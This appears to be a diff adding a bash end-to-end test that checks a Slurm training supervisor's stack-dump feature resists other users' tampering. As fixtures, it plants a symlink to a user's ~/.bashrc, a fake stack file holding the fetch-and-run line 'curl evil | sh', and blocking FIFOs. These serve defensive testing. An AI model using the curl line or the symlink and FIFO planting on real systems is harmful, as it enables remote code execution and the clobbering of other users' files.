@@ -1,0 +1,150 @@
+#!/usr/bin/env bash
+# e2e-modes: run
+# Hang diagnosis that other users cannot steer, as real users: alice runs the jobs with
+# her team's group-writable log directory (as the template tells teams to make it); bob
+# is in her group; mallory is not.
+#  1. A hang before the first agreement: rank 3 never joins the process group, the
+#     others wait in its init. --hang-start-timeout catches it: stacks of the ranks,
+#     readable by the team (a group log directory), then end-step. No node is blamed
+#     for the deaths end-step caused.
+#  2. bob plants stacks-<alice's next job>/ in the team directory: summary.txt a link to
+#     alice's ~/.bashrc, rank9.txt naming the host "n[1-3]" with a shell command as its
+#     frame. At alice's hang nothing is written there, nothing read, and no node is
+#     remembered as bad; her .bashrc is untouched; one line says why.
+#  3. mallory plants FIFOs (mode 666) as stacks-<job>/rank0.txt and summary.txt in a
+#     world-writable sticky log directory, as /tmp is. alice's stalled rank is dumped
+#     without blocking: the supervisor goes on, the stall ends, and alice's kill switch
+#     ends the job at once, COMPLETED.
+# shellcheck source=tests/e2e/lib.sh
+source "$(dirname "$0")/lib.sh"
+
+getent group tcteam >/dev/null || groupadd tcteam
+getent group alice >/dev/null || groupadd alice
+id alice >/dev/null 2>&1 || useradd -m -g alice -G tcteam -s /bin/bash alice
+id bob >/dev/null 2>&1 || useradd -m -g tcteam -s /bin/bash bob
+getent group mallory >/dev/null || groupadd mallory
+id mallory >/dev/null 2>&1 || useradd -m -g mallory -s /bin/bash mallory
+usermod -a -G tcteam alice
+run_as_user alice
+chmod 755 "$TEST_DIR"
+as() {
+  local who=$1
+  shift
+  runuser -u "$who" -- env SLURM_CONF="$SLURM_CONF" PYTHONPATH="$PYTHONPATH" PATH="$PATH" "$@"
+}
+on_exit() {
+  local rc=$? p
+  for p in $(pgrep -u bob,mallory 2>/dev/null || true); do kill -9 "$p" 2>/dev/null || true; done
+  set +e
+  (exit "$rc")
+  cleanup
+}
+trap on_exit EXIT
+team=$TEST_DIR/team
+mkdir -p "$team"
+chown alice:tcteam "$team"
+chmod 2770 "$team"
+export TRAINCTL_LOG_DIR=$team
+bashrc=/home/alice/.bashrc
+touch "$bashrc"
+chown alice "$bashrc"
+before=$(sha256sum <"$bashrc")
+next_job() {
+  local probe
+  probe=$(as alice sbatch --parsable --hold --wrap true) || fail "cannot submit"
+  scancel "${probe%%;*}"
+  echo $((${probe%%;*} + 1))
+}
+
+log "0. --dump-stacks of an srun python job (no rank variable but SLURM_PROCID)"
+cat >"$TEST_DIR/job0.sh" <<JOB
+#!/bin/bash
+srun --ntasks-per-node=1 $BUILD/bin/trainctl-run -- /usr/bin/python3 $TRAIN --ckpt-dir $TEST_DIR/ckpt0 --steps 100000 \
+  --step-time 0.05 --events "$TEST_DIR/events/rank{rank}.jsonl"
+JOB
+as alice mkdir -p "$TEST_DIR/events"
+job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job0.out" "$TEST_DIR/job0.sh")
+wait_for 120 "2 ranks started" events_at_least start 2
+out=$(as_user "$BUILD/bin/trainctl-run" --dump-stacks "$job" --log-dir "$TEST_DIR/made/here") ||
+  fail "--dump-stacks failed: $out"
+grep -q "stacks of 2 ranks of job $job in $TEST_DIR/made/here/stacks-$job/" <<<"$out" || fail "--dump-stacks: $out"
+[ "$(stat -c '%U %a' "$TEST_DIR/made/here")" = "alice 700" ] || fail "the missing log directory was not made private"
+as alice touch "$TEST_DIR/a-file"
+set +e
+err=$(as_user "$BUILD/bin/trainctl-run" --dump-stacks "$job" --log-dir "$TEST_DIR/a-file" 2>&1)
+rc=$?
+set -e
+[ "$rc" -ne 0 ] || fail "--dump-stacks into a file exited 0: $err"
+grep -q "a-file is not a directory" <<<"$err" || fail "no line saying the log directory is a file: $err"
+if grep -q "stacks of" <<<"$err"; then fail "a dump that was not saved was reported: $err"; fi
+set +e
+err=$(as mallory "$BUILD/bin/trainctl-run" --dump-stacks "$job" --log-dir /tmp 2>&1)
+rc=$?
+set -e
+log "mallory: $err"
+[ "$rc" -ne 0 ] || fail "mallory's --dump-stacks of alice's job exited 0"
+grep -qi "denied\|not authorized\|Invalid" <<<"$err" || fail "srun's refusal was not passed on: $err"
+scancel "$job"
+wait_for 60 "job 0 to end" job_ended "$job"
+rm -rf "$TEST_DIR/events"
+log "0: 2 ranks found by SLURM_PROCID, a missing log directory made, a file refused, srun's refusal passed on"
+
+log "1. rank 3 never joins the process group"
+supervised_job "$TEST_DIR/job1.sh" --hang-timeout=5s --hang-start-timeout=12s --hang-action=end-step
+sed -i "s|--step-time 0.05|--step-time 0.05 --hang-before-init 3|" "$TEST_DIR/job1.sh"
+job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job1.out" "$TEST_DIR/job1.sh")
+wait_for 120 "job 1 to end (end-step)" job_ended "$job"
+grep -q "hang: rank [0-9?]* (pid [0-9]*) has not reached its first agreement" "$TEST_DIR/job1.out" ||
+  fail "the start hang was not found: $(grep 'hang' "$TEST_DIR/job1.out" | head -5)"
+dir=$team/stacks-$job
+ls "$dir"/rank*.txt >/dev/null 2>&1 || fail "no stacks in $dir: $(grep hang: "$TEST_DIR/job1.out")"
+grep -l "init_process_group\|rendezvous\|_store_based_barrier\|wait" "$dir"/rank*.txt >/dev/null ||
+  fail "no rank's stacks show the process group's init: $(head -3 "$dir"/rank*.txt)"
+[ "$(stat -c '%U %G %a' "$dir")" = "alice tcteam 750" ] || fail "stacks dir is $(stat -c '%U %G %a' "$dir")"
+as bob cat "$dir/rank0.txt" >/dev/null || fail "bob (her team) cannot read the stacks"
+as mallory cat "$dir/rank0.txt" >/dev/null 2>&1 && fail "mallory can read alice's stacks"
+grep -q "hang: ending the step" "$TEST_DIR/job1.out" || fail "end-step did not run"
+if [ -s "$TRAINCTL_BAD_NODES" ]; then fail "a node was blamed for what end-step did: $(cat "$TRAINCTL_BAD_NODES")"; fi
+log "1: found before the first agreement, stacks readable by the team only, nobody blamed"
+
+log "2. bob plants stacks-<next job> in the team directory"
+next=$(next_job)
+as bob bash -s "$team/stacks-$next" "$bashrc" <<'PLANT' || fail "bob's planting failed"
+mkdir -p "$1" && chmod 2775 "$1"
+ln -s "$2" "$1/summary.txt"
+printf '=== trainctl stacks: rank 9, pid 1, host n[1-3], x: hang\n=== dump: run=%s.0 kind=hang at_ms=9999999999999\n=== innermost: curl evil | sh\n' "$(basename "$1" | cut -d- -f2)" >"$1/rank9.txt"
+PLANT
+supervised_job "$TEST_DIR/job2.sh" --hang-timeout=5s --hang-action=end-step
+sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60|" "$TEST_DIR/job2.sh"
+job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2.out" "$TEST_DIR/job2.sh")
+[ "$job" = "$next" ] || fail "job $job is not the id bob planted for ($next)"
+wait_for 120 "job 2 to end (end-step)" job_ended "$job"
+grep -q "hang: stacks not saved: $team/stacks-$job belongs to uid $(id -u bob), not to this user" "$TEST_DIR/job2.out" ||
+  fail "no line saying why: $(grep 'hang' "$TEST_DIR/job2.out" | head -5)"
+[ "$(sha256sum <"$bashrc")" = "$before" ] || fail "alice's .bashrc changed: $(tail -3 "$bashrc")"
+if [ -s "$TRAINCTL_BAD_NODES" ]; then fail "bob's planted file made a bad node: $(cat "$TRAINCTL_BAD_NODES")"; fi
+log "2: nothing written through bob's link, nothing read from his file, no node remembered"
+
+log "3. mallory plants FIFOs in a world-writable log directory"
+public=$TEST_DIR/public
+mkdir -p "$public"
+chmod 1777 "$public"
+export TRAINCTL_LOG_DIR=$public
+next=$(next_job)
+as mallory bash -c "mkdir -m 777 '$public/stacks-$next' && mkfifo -m 666 '$public/stacks-$next/rank0.txt' '$public/stacks-$next/summary.txt'" ||
+  fail "mallory's FIFOs"
+rm -rf "$TEST_DIR/events"
+as alice mkdir -p "$TEST_DIR/events"
+supervised_job "$TEST_DIR/job3.sh" --hang-timeout=4s --kill-switch="$TEST_DIR/KILL"
+sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60 --hang-for 15|" "$TEST_DIR/job3.sh"
+job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job3.out" "$TEST_DIR/job3.sh")
+[ "$job" = "$next" ] || fail "job $job is not the id mallory planted for ($next)"
+wait_for 120 "the stall to be found" grep -q "hang: stacks not saved" "$TEST_DIR/job3.out"
+wait_for 60 "the stall to end" grep -q "hang: the ranks make progress again" "$TEST_DIR/job3.out"
+as alice touch "$TEST_DIR/KILL"
+wait_for 60 "job 3 to end" job_ended "$job"
+[ "$(job_state "$job")" = COMPLETED ] || fail "job 3 ended $(job_state "$job"), not COMPLETED"
+read -r n steps reasons < <(exit_summary)
+{ [ "$n" = 4 ] && [ "$reasons" = kill-switch ]; } || fail "job 3: $n ranks exited, reasons $reasons"
+for f in rank0.txt summary.txt; do [ -p "$public/stacks-$next/$f" ] || fail "mallory's $f is no longer a FIFO"; done
+log "PASS: start hang caught with stacks; bob's link and planted file, and mallory's FIFOs, changed nothing"
